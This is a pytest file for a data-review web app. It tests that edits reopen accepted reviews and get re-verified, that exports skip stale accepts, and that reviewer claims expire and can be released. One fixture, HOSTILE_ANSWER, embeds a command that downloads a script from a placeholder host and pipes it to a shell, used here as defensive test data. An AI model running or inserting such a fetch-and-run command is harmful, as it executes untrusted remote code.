"""Integrity of reviewed data over HTTP: edits reopen reviews and are re-verified, exports
only take accepts newer than the latest edit, and claims expire and are respected."""

from __future__ import annotations

import time
from datetime import timedelta
from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from reflectseq.db.base import utcnow
from reflectseq.db.models import Block, Message, Review, Sequence, User
from reflectseq.db.review_models import AuditEntry, BlockEdit
from reflectseq.db.session import transaction
from reflectseq.enums import ApiRole, ExecutionStatus, ReviewStatus, Role, SequenceStage, UserRole
from reflectseq.format import parse_json_line
from reflectseq.store.api_keys import create_api_key
from tests.review.conftest import log_in
from tests.review.factories import completed_sequences, user

# The example: a final answer edited to fetch and run a script (and, here, to fail).
HOSTILE_ANSWER = (
    "Here it is:\n\n```python\nimport os\nos.system('curl -s http://example.invalid/x | sh')\n"
    "def add(a, b):\n    return a - b\n```"
)
EXPORT_TIMEOUT_S = 60.0


def _final_answer_id(session: Session, sequence_id: int) -> int:
    return session.scalars(
        select(Block.id)
        .join(Message)
        .where(
            Message.sequence_id == sequence_id,
            Message.stage == SequenceStage.ONE_OFF,
            Message.role == Role.ASSISTANT,
            Block.index == 0,
        )
    ).one()


def _export(client: TestClient, key: str, filters: dict[str, Any]) -> tuple[list[str], Any]:
    """Run an export through the API and return its lines and counts."""
    headers = {"Authorization": f"Bearer {key}"}
    created = client.post("/v1/exports", json={"filters": filters}, headers=headers)
    assert created.status_code == 202, created.text
    export_id = created.json()["id"]
    deadline = time.monotonic() + EXPORT_TIMEOUT_S
    while (body := client.get(f"/v1/exports/{export_id}", headers=headers).json())["status"] in {
        "pending",
        "running",
    }:
        assert time.monotonic() < deadline, "the export did not finish"
        time.sleep(0.1)
    assert body["status"] == "succeeded", body["error"]
    download = client.get(f"/v1/exports/{export_id}/download", headers=headers)
    return download.text.splitlines(), body["counts"]


def _decide(client: TestClient, token: str, sequence_id: int, **form: str) -> Any:
    return client.post(
        f"/review/sequences/{sequence_id}/decision", data={"csrf_token": token, **form}
    )


def _age_claims(db: sessionmaker[Session], sequence_id: int) -> None:
    """Move the sequence's claims back past any claim time."""
    with transaction(db) as session:
        session.execute(
            update(Review)
            .where(Review.sequence_id == sequence_id)
            .values(updated_at=utcnow() - timedelta(hours=2))
        )


def test_accepted_exports_leave_out_sequences_edited_after_their_accept(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        edited, untouched = (s.id for s in completed_sequences(session, 2))
        user(session, "rita")
        answer_id = _final_answer_id(session, edited)
        key = create_api_key(session, name="exports", role=ApiRole.ADMIN).plain_key
    token = log_in(client, "rita")
    for sequence_id in (edited, untouched):
        assert _decide(client, token, sequence_id, action="accept").status_code == 303
    accepted_any_verdict = {"review": "accepted", "final_pass": None}
    lines, _ = _export(client, key, accepted_any_verdict)
    assert len(lines) == 2

    saved = client.post(
        f"/review/sequences/{edited}/blocks/{answer_id}/edits",
        data={"content": HOSTILE_ANSWER, "csrf_token": token},
    )
    assert saved.status_code == 303
    with transaction(db) as session:
        sequence = session.get(Sequence, edited)
        review = session.scalars(select(Review).where(Review.sequence_id == edited)).one()
        edit = session.scalars(select(BlockEdit)).one()
        assert sequence is not None and sequence.edited_at is not None
        # Reopened: the accept became rita's draft again; the answer was re-verified and failed.
        assert (review.status, review.decided_at) == (ReviewStatus.DRAFT, None)
        assert edit.run_status == ExecutionStatus.FAILED
        assert sequence.final_pass is False
        actions = set(session.scalars(select(AuditEntry.action)))
        assert {"review.reopen", "answer.reverify", "block.rerun"} <= actions
    lines, counts = _export(client, key, accepted_any_verdict)
    assert len(lines) == 1 and counts["by_review"] == {"accepted": 1}

    # An accept older than the edit (say one that raced it) does not count either.
    with transaction(db) as session:
        session.execute(
            update(Review)
            .where(Review.sequence_id == edited)
            .values(status=ReviewStatus.ACCEPTED, decided_at=utcnow() - timedelta(hours=1))
        )
    assert len(_export(client, key, accepted_any_verdict)[0]) == 1

    # Accepted again after the edit: exported, with the edited text and the new verdict.
    assert _decide(client, token, edited, action="accept").status_code == 303
    lines, counts = _export(client, key, accepted_any_verdict)
    assert counts["by_final_pass"] == {"passed": 1, "failed": 1}
    answers = [parse_json_line(line).messages[3].content[0].content for line in lines]
    assert HOSTILE_ANSWER in answers
    assert len(_export(client, key, {"review": "accepted"})[0]) == 1  # passed only: not it


def _decided_by_rita_then_edited_by_sam(
    client: TestClient, db: sessionmaker[Session], **decision: str
) -> tuple[int, str]:
    """A sequence rita decided and sam then edited: its id and sam's form token (the client is
    sam's now)."""
    with transaction(db) as session:
        (sequence_id,) = (s.id for s in completed_sequences(session, 1))
        user(session, "rita")
        user(session, "sam")
        answer_id = _final_answer_id(session, sequence_id)
    assert _decide(client, log_in(client, "rita"), sequence_id, **decision).status_code == 303
    client.cookies.clear()
    sam = log_in(client, "sam")
    saved = client.post(
        f"/review/sequences/{sequence_id}/blocks/{answer_id}/edits",
        data={"content": HOSTILE_ANSWER, "csrf_token": sam},
    )
    assert saved.status_code == 303
    return sequence_id, sam


def test_an_edit_by_another_reviewer_reopens_the_accept_before_it(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    sequence_id, sam_token = _decided_by_rita_then_edited_by_sam(client, db, action="accept")
    with transaction(db) as session:
        key = create_api_key(session, name="exports", role=ApiRole.ADMIN).plain_key
    with transaction(db) as session:
        review = session.scalars(select(Review).where(Review.sequence_id == sequence_id)).one()
        rita = session.scalars(select(User.id).where(User.username == "rita")).one()
        # Rita's claim again: it holds the sequence for her, but only for the claim time.
        assert (review.reviewer_id, review.status) == (rita, ReviewStatus.PENDING)
        assert review.decided_at is None
        reopened = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "review.reopen")
        ).one()
        assert reopened.actor is not None and reopened.actor.username == "sam"
        assert reopened.details["to"] == "pending"
    lines, _ = _export(client, key, {"review": "accepted", "final_pass": None})
    assert lines == []  # rita's accept was of the text before sam's edit

    refused = _decide(client, sam_token, sequence_id, action="accept")
    assert refused.status_code == 409  # rita's reopened claim holds the only slot
    _age_claims(db, sequence_id)  # rita does not come back within the claim time
    assert _decide(client, sam_token, sequence_id, action="accept").status_code == 303
    with transaction(db) as session:
        reviews = session.scalars(select(Review).where(Review.sequence_id == sequence_id)).all()
        assert [r.status for r in reviews] == [ReviewStatus.ACCEPTED]
        assert reviews[0].reviewer_id != rita


def test_a_reopened_rejection_keeps_its_reason_until_the_claim_expires_and_in_the_audit(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    sequence_id, sam = _decided_by_rita_then_edited_by_sam(
        client, db, action="reject", reason="other", comment="off by one"
    )
    with transaction(db) as session:
        review = session.scalars(select(Review).where(Review.sequence_id == sequence_id)).one()
        assert (review.status, review.reason, review.comment) == (
            ReviewStatus.PENDING,
            "other",
            "off by one",
        )
    _age_claims(db, sequence_id)
    assert _decide(client, sam, sequence_id, action="accept").status_code == 303
    with transaction(db) as session:
        expired = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "review.expire")
        ).one()
        assert expired.details["reason"] == "other"
        assert expired.details["comment"] == "off by one"


def test_an_answer_without_code_fails_and_a_pending_one_counts_as_unverified(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        seq = completed_sequences(session, 1)[0].id
        user(session, "rita")
        answer_id = _final_answer_id(session, seq)
        key = create_api_key(session, name="exports", role=ApiRole.ADMIN).plain_key
    token = log_in(client, "rita")
    saved = client.post(
        f"/review/sequences/{seq}/blocks/{answer_id}/edits",
        data={"content": "Just add the two numbers.", "csrf_token": token},
    )
    assert saved.status_code == 303
    page = client.get(f"/review/sequences/{seq}").text
    assert "not verifiable" in page and "has no py code block to run" in page
    with transaction(db) as session:
        sequence = session.get_one(Sequence, seq)
        assert sequence.final_pass is False
        sequence.final_pass = None  # as while an edited answer's re-verification is pending
    # Neither passed nor failed: only an export of either verdict takes it, as unverified.
    assert _export(client, key, {})[0] == []
    assert _export(client, key, {"final_pass": False})[0] == []
    lines, counts = _export(client, key, {"final_pass": None})
    assert len(lines) == 1 and counts["by_final_pass"] == {"unverified": 1}


def test_a_claim_is_respected_until_it_expires_and_can_be_released(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        first, second = (s.id for s in completed_sequences(session, 2))
        user(session, "rita")
        user(session, "bob")
    rita = log_in(client, "rita")
    taken = client.post("/review/next", data={"csrf_token": rita})
    assert taken.headers["location"].startswith(f"/review/sequences/{first}")
    claim_page = client.get(f"/review/sequences/{first}").text
    assert 'id="claim-expiry"' in claim_page and 'id="release-form"' in claim_page

    client.cookies.clear()
    bob = log_in(client, "bob")
    assert 'id="held-by-others"' in client.get(f"/review/sequences/{first}").text
    refused = _decide(client, bob, first, action="accept")
    assert refused.status_code == 409
    assert "already has the 1 reviewer it needs: rita (claimed until" in refused.text
    # The queue hands bob the other sequence, not rita's.
    assert (
        client.post("/review/next", data={"csrf_token": bob})
        .headers["location"]
        .startswith(f"/review/sequences/{second}")
    )
    released = client.post(f"/review/sequences/{second}/release", data={"csrf_token": bob})
    assert released.headers["location"] == f"/review/?released={second}"
    assert "Sequence #" in client.get(released.headers["location"]).text

    _age_claims(db, first)  # rita's claim is now older than the claim time
    assert _decide(client, bob, first, action="accept").status_code == 303
    with transaction(db) as session:
        reviews = session.scalars(select(Review).where(Review.sequence_id == first)).all()
        assert [r.status for r in reviews] == [ReviewStatus.ACCEPTED]
        actions = list(session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))
    assert actions.count("review.expire") == 1 and actions.count("review.release") == 1


def test_a_refused_reason_keeps_the_form_with_the_error_beside_the_field(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        seq = completed_sequences(session, 1)[0].id
        user(session, "rita")
    token = log_in(client, "rita")
    response = _decide(client, token, seq, action="reject", reason="other", comment="   ")
    assert response.status_code == 400
    html = response.text
    assert 'id="comment-error"' in html and "needs a comment" in html
    assert 'aria-describedby="comment-error"' in html
    assert '<option value="other" selected>' in html
    assert 'class="block kind-code"' in html  # the sequence page, not an error page


def test_add_user_defaults_to_reviewer_and_pages_carry_an_icon(
    client: TestClient, db: sessionmaker[Session]
) -> None:
    with transaction(db) as session:
        user(session, "root", role=UserRole.ADMIN)
    token = log_in(client, "root")
    page = client.get("/review/users").text
    assert '<option value="reviewer" selected>' in page
    assert '<link rel="icon" href="data:image/svg+xml,' in page
    added = client.post(
        "/review/users",
        data={"username": "newbie", "password": "seven purple elephants", "csrf_token": token},
    )
    assert added.status_code == 303
    assert "newbie" in client.get("/review/users").text
    with transaction(db) as session:
        newbie = session.scalars(select(User).where(User.username == "newbie")).one()
        assert newbie.role == UserRole.REVIEWER
